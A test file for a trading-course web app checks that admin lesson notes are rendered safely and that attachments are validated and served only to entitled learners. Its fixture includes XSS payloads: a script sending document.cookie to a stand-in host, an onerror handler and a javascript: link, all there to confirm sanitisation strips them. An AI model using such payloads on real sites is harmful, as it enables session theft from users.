// A lesson's notes and attachments (docs/product.md, "Lesson notes" and "Attachments"): written by
// an admin, rendered without anything that could run, and served only to learners whose plan opens
// the program, as the files they are.
import { count, eq } from "drizzle-orm";
import type { InjectOptions } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ADMIN_MESSAGES, type AdminProgram, type ProgramFields } from "../../../shared/contracts/admin.ts";
import {
  ATTACHMENT_MAX_BYTES,
  ATTACHMENT_MESSAGES,
  LEARNING_MESSAGES,
  type LessonContent,
  type TrackDetail,
} from "../../../shared/contracts/learning.ts";
import type { Track } from "../../../shared/plans.ts";
import { lessonAttachments } from "../../db/schema.ts";
import { createTestUsers, ipAllocator, type TestUser } from "../../testing/accounts.ts";
import { createTestApp, type TestApp } from "../../testing/test-app.ts";

const nextIp = ipAllocator(172);

const PDF = Buffer.from("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");
// A 1x1 transparent PNG.
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
  "base64",
);
const CSV = Buffer.from("pair,entry,stop\nEUR/USD,1.0850,1.0820\n");

const HOSTILE_NOTES = [
  "# Position sizing",
  "Risk **1%** per trade.",
  "",
  "<script>document.location='https://evil.example/?c='+document.cookie</script>",
  "",
  '<img src=x onerror="alert(1)">',
  "",
  "[Open](javascript:alert(1)) and [Paystack](https://paystack.com)",
].join("\n");

describe("lesson notes and attachments", () => {
  let t: TestApp;
  let user: (key: "admin" | "free" | "intermediate") => TestUser;

  beforeAll(async () => {
    t = await createTestApp();
    user = await createTestUsers(t, nextIp, {
      admin: { plan: "admin" },
      free: { plan: "legacyFree" },
      intermediate: { plan: "intermediate", status: "active", subscriptionEnd: new Date(Date.now() + 30 * 86_400_000) },
    });
  });
  afterAll(() => t.close());

  const call = (who: TestUser, options: InjectOptions) =>
    t.app.inject({ ...options, headers: { ...options.headers, cookie: who.cookie } });
  const admin = (options: InjectOptions) => call(user("admin"), options);

  async function programOf(track: Track): Promise<AdminProgram> {
    const response = await admin({ method: "GET", url: "/api/admin/programs" });
    const program = response.json<{ programs: AdminProgram[] }>().programs.find((p) => p.id === track);
    if (!program) throw new Error(`no program ${track}`);
    return program;
  }

  /** Save Program with the program's modules as they are, changed by `change`. */
  async function saveModules(track: Track, change: (modules: AdminProgram["modules"]) => ProgramFields["modules"]) {
    const program = await programOf(track);
    return admin({
      method: "PUT",
      url: `/api/admin/programs/${track}`,
      payload: {
        title: program.title,
        duration: program.duration,
        priceUsd: program.priceUsd,
        order: program.order,
        description: program.description,
        modules: change(program.modules),
      },
    });
  }

  function upload(track: string, moduleId: string, name: string, bytes: Buffer) {
    return admin({
      method: "POST",
      url: `/api/admin/programs/${track}/modules/${moduleId}/attachments?name=${encodeURIComponent(name)}`,
      headers: { "content-type": "application/octet-stream" },
      payload: bytes,
    });
  }

  async function uploaded(track: Track, moduleId: string, name: string, bytes: Buffer) {
    const response = await upload(track, moduleId, name, bytes);
    expect(response.statusCode, response.body).toBe(201);
    const file = response.json<{ program: AdminProgram }>().program.modules.find((m) => m.id === moduleId)?.attachments.at(-1);
    if (!file) throw new Error("no attachment");
    return file;
  }

  async function attachmentRows() {
    const [row] = await t.database.db.select({ n: count() }).from(lessonAttachments);
    return row?.n ?? 0;
  }

  const lesson = (who: TestUser, track: string, moduleId: string) =>
    call(who, { method: "GET", url: `/api/programs/${track}/modules/${moduleId}` });

  it("renders a lesson's notes for learners without script, handlers or javascript: links", async () => {
    const saved = await saveModules("beginner", (modules) =>
      modules.map((m, index) => (index === 0 ? { ...m, notes: HOSTILE_NOTES } : m)),
    );
    expect(saved.statusCode, saved.body).toBe(200);
    const first = (await programOf("beginner")).modules[0];
    expect(first?.notes).toBe(HOSTILE_NOTES);

    const response = await lesson(user("free"), "beginner", first?.id ?? "");
    expect(response.statusCode).toBe(200);
    const { notesHtml } = response.json<LessonContent>();
    expect(notesHtml).toContain("<h2>Position sizing</h2>");
    expect(notesHtml).toContain("<strong>1%</strong>");
    expect(notesHtml).toContain('<a href="https://paystack.com" target="_blank" rel="noopener noreferrer">Paystack</a>');
    expect(notesHtml).not.toMatch(/<script|<img|<a href="javascript/i);
    expect(notesHtml).not.toMatch(/<[^>]*\son\w+=/i);
  });

  it("saves a lesson of notes only, which learners mark as done like a video", async () => {
    const saved = await saveModules("beginner", (modules) => [
      ...modules,
      { title: "Checklist before a trade", youtubeId: "", notes: "- Trend\n- Level\n- Stop" },
    ]);
    expect(saved.statusCode, saved.body).toBe(200);
    const published = await call(user("admin"), { method: "POST", url: "/api/admin/programs/beginner/publish" });
    expect(published.statusCode, published.body).toBe(200);
    const detail = (await call(user("free"), { method: "GET", url: "/api/programs/beginner" })).json<TrackDetail>();
    const notesOnly = detail.modules.at(-1);
    expect(notesOnly).toMatchObject({ title: "Checklist before a trade", youtubeId: null });
    const content = (await lesson(user("free"), "beginner", notesOnly?.id ?? "")).json<LessonContent>();
    expect(content.notesHtml).toBe("<ul>\n<li>Trend</li>\n<li>Level</li>\n<li>Stop</li>\n</ul>");
    const watched = await call(user("free"), {
      method: "POST",
      url: `/api/programs/beginner/modules/${notesOnly?.id}/watched`,
      payload: {},
    });
    expect(watched.statusCode).toBe(200);
    expect(watched.json<{ watched: string[] }>().watched).toContain(notesOnly?.id);
  });

  it.each<[string, Record<string, unknown>, string]>([
    ["neither a video nor notes", { title: "Empty", youtubeId: "", notes: "" }, ADMIN_MESSAGES.moduleRequired],
    ["notes without a title", { title: " ", notes: "Read this" }, ADMIN_MESSAGES.moduleTitleRequired],
    ["notes over the limit", { title: "Long", notes: "x".repeat(50_001) }, ADMIN_MESSAGES.notesTooLong],
  ])("refuses a lesson with %s, and changes nothing", async (_case, module, message) => {
    const before = await programOf("advanced");
    const response = await saveModules("advanced", (modules) => [...modules, module as ProgramFields["modules"][number]]);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ error: { code: "VALIDATION", message } });
    expect((await programOf("advanced")).modules).toEqual(before.modules);
  });

  it("serves an attachment as the file it is, to learners whose plan opens the program", async () => {
    const moduleId = (await programOf("beginner")).modules[1]?.id ?? "";
    const file = await uploaded("beginner", moduleId, "Candle cheat-sheet (v2).pdf", PDF);
    expect(file).toMatchObject({ fileName: "Candle cheat-sheet (v2).pdf", contentType: "application/pdf", sizeBytes: PDF.length });

    const listed = (await lesson(user("free"), "beginner", moduleId)).json<LessonContent>();
    expect(listed.attachments).toEqual([file]);

    const download = await call(user("free"), { method: "GET", url: file.url });
    expect(download.statusCode).toBe(200);
    expect(download.headers["content-type"]).toBe("application/pdf");
    expect(download.headers["content-disposition"]).toBe('attachment; filename="Candle cheat-sheet (v2).pdf"');
    expect(download.headers["x-content-type-options"]).toBe("nosniff");
    expect(download.rawPayload.equals(PDF)).toBe(true);

    const image = await uploaded("beginner", moduleId, "Hammer – bullish.png", PNG);
    const picture = await call(user("free"), { method: "GET", url: image.url });
    expect(picture.headers["content-type"]).toBe("image/png");
    expect(picture.headers["content-disposition"]).toBe(
      "attachment; filename=\"Hammer ? bullish.png\"; filename*=UTF-8''Hammer%20%E2%80%93%20bullish.png",
    );
  });

  it("refuses an attachment to a learner whose plan does not open the program, and ids of another lesson", async () => {
    const [first, second] = (await programOf("intermediate")).modules;
    const file = await uploaded("intermediate", first?.id ?? "", "risk-calculator.csv", CSV);

    const refused = await call(user("free"), { method: "GET", url: file.url });
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ error: { message: LEARNING_MESSAGES.premiumOnly } });
    expect(refused.body).not.toContain("EUR/USD");
    expect((await lesson(user("free"), "intermediate", first?.id ?? "")).statusCode).toBe(403);

    const allowed = await call(user("intermediate"), { method: "GET", url: file.url });
    expect(allowed.statusCode).toBe(200);
    expect(allowed.body).toBe(CSV.toString());

    // The id of an attachment guessed under another lesson, or another program the learner opens.
    const beginnerModule = (await programOf("beginner")).modules[0]?.id;
    for (const url of [
      `/api/programs/intermediate/modules/${second?.id}/attachments/${file.id}`,
      `/api/programs/beginner/modules/${beginnerModule}/attachments/${file.id}`,
      `/api/programs/intermediate/modules/${first?.id}/attachments/00000000-0000-4000-8000-000000000000`,
      `/api/programs/intermediate/modules/${first?.id}/attachments/not-an-id`,
    ]) {
      const guessed = await call(user("intermediate"), { method: "GET", url });
      expect(guessed.statusCode, url).toBe(404);
      expect(guessed.body).not.toContain("EUR/USD");
    }
  });

  it.each<[string, string, Buffer, number, string]>([
    ["a file over 20 MB", "big.pdf", Buffer.concat([PDF, Buffer.alloc(ATTACHMENT_MAX_BYTES)]), 413, ATTACHMENT_MESSAGES.tooLarge],
    ["a type that is not allowed", "setup.exe", Buffer.from("MZ\x90\x00"), 415, ATTACHMENT_MESSAGES.notAllowed],
    ["a PDF named as an image", "chart.png", PDF, 415, ATTACHMENT_MESSAGES.mismatch("chart.png")],
    ["an image named as a PDF", "notes.pdf", PNG, 415, ATTACHMENT_MESSAGES.mismatch("notes.pdf")],
    ["binary data named as a CSV", "data.csv", Buffer.from([0x00, 0xff, 0x10, 0x80]), 415, ATTACHMENT_MESSAGES.mismatch("data.csv")],
    ["an empty file", "empty.pdf", Buffer.alloc(0), 400, ATTACHMENT_MESSAGES.empty],
    ["a file without a name", ".pdf", PDF, 400, ATTACHMENT_MESSAGES.nameRequired],
  ])("refuses %s in words, and stores nothing", async (_case, name, bytes, status, message) => {
    const moduleId = (await programOf("advanced")).modules[0]?.id ?? "";
    const before = await attachmentRows();
    const response = await upload("advanced", moduleId, name, bytes);
    expect(response.statusCode).toBe(status);
    expect(response.json()).toMatchObject({ error: { message } });
    expect(await attachmentRows()).toBe(before);
  });

  it("answers 404 for an upload to a lesson that is not the program's", async () => {
    const otherModule = (await programOf("beginner")).modules[0]?.id;
    for (const moduleId of [otherModule, "00000000-0000-4000-8000-000000000000", "nope"]) {
      const response = await upload("advanced", moduleId ?? "", "sheet.pdf", PDF);
      expect(response.statusCode).toBe(404);
      expect(response.json()).toMatchObject({ error: { message: ADMIN_MESSAGES.moduleNotInProgram } });
    }
  });

  it("keeps a lesson's files through a save of the program, and removes them with the lesson", async () => {
    const [first, second] = (await programOf("advanced")).modules;
    const kept = await uploaded("advanced", first?.id ?? "", "greeks.pdf", PDF);
    const dropped = await uploaded("advanced", second?.id ?? "", "vol.pdf", PDF);

    const reordered = await saveModules("advanced", (modules) => [...modules].reverse());
    expect(reordered.statusCode).toBe(200);
    const afterReorder = (await programOf("advanced")).modules;
    expect(afterReorder.find((m) => m.id === first?.id)?.attachments).toEqual([kept]);

    const trimmed = await saveModules("advanced", (modules) => modules.filter((m) => m.id !== second?.id));
    expect(trimmed.statusCode).toBe(200);
    const rows = await t.database.db.select({ id: lessonAttachments.id }).from(lessonAttachments).where(eq(lessonAttachments.id, dropped.id));
    expect(rows).toEqual([]);
    expect((await call(user("admin"), { method: "GET", url: kept.url })).statusCode).toBe(200);
  });

  it("removes one attachment, which is then no longer served", async () => {
    const moduleId = (await programOf("beginner")).modules[2]?.id ?? "";
    const file = await uploaded("beginner", moduleId, "levels.png", PNG);
    const removed = await admin({
      method: "DELETE",
      url: `/api/admin/programs/beginner/modules/${moduleId}/attachments/${file.id}`,
    });
    expect(removed.statusCode).toBe(200);
    expect(removed.json<{ program: AdminProgram }>().program.modules.find((m) => m.id === moduleId)?.attachments).toEqual([]);
    expect((await call(user("free"), { method: "GET", url: file.url })).statusCode).toBe(404);
    const again = await admin({ method: "DELETE", url: `/api/admin/programs/beginner/modules/${moduleId}/attachments/${file.id}` });
    expect(again.statusCode).toBe(404);
  });
});
